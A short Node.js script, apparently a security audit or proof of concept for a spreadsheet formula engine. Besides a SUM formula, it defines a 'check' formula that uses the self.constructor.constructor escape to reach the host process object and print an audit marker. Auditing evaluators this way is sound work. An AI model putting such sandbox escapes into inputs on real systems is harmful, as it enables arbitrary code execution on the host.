'use strict';
const { Sheet } = require('./sheet.cjs');

const demo = new Sheet([['1', '2'], ['3', '4']]);
demo.define('total', 'SUM(A1, B1, A2, B2)');
demo.define('check', "self.constructor.constructor('return process')().stdout.write('AUDIT-MARKER\\n')");
for (const name of demo.names()) demo.value(name);
